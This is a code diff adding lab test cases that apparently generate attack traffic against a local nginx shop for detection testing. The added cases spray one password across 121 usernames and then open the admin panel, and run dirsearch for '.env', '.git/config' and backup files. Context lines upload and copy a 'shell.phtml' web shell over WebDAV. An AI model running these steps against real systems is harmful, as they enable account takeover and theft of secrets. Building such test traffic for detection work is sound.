@@ -224,3 +224,32 @@ def nginx_webdav(lab, _):
     ask("COPY", "/dav/DavTestDir_k3/shell.phtml", "-H", f"Destination: {URL}/dav/copy.phtml")
     ask("GET", "/dav/copy.phtml")
     ask("DELETE", "/dav/DavTestDir_k3/davtest_k3.html")
+
+
+@case("nginx-spraying", "One password is tried with 120 user names in a login form, a guess every 100 ms, with a browser's "
+      "agent and header shape: 403 each, and 302 with `Set-Cookie` for one in the middle; the account's page follows. The "
+      "client is the lab's own script.", shop, ordered=False)
+def nginx_spraying(lab, _):
+    guess = "correct horse"
+    names = [f"{first}.{last}" for first in "anna ben carl dora emil fay".split() for last in
+             "adams baker clark davis evans fisher green hill irving jones king lewis moore nash owens price quinn reed shaw todd".split()]
+    names.insert(70, "editor")
+    client = Client(lab, *BROWSERS[5])
+    lab.say("POST /login with 121 user names and one password, 100 ms between; after the one that is right, GET /account and /admin/panel")
+    with application(lab), visitors(lab, SHOP, 14, 0.7):
+        for name in names:
+            if client.post("/login", {"username": name, "password": guess}) == 302:
+                client.get("/account", follow=True)
+                client.get("/admin/panel", follow=True)
+                client.cookies.clear()
+            time.sleep(0.1)
+        client.close()
+
+
+@case("nginx-dirsearch", "dirsearch with an agent that changes at every request. It finds `/.env`, `/.git/config` and "
+      "`/backup.sql`; nobody comes back for more.", forgotten_files, clients=["dirsearch"], ordered=False)
+def nginx_dirsearch(lab, _):
+    path = word_file("words.txt", [*WORDS, *SECRET_WORDS])
+    with application(lab):
+        lab.client("dirsearch", "-u", f"{URL}/", "-w", path, "-t", "5", "--random-agent", "-q", "-o", WORK / "dirsearch.txt",
+                   environment={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": str(WORK)})
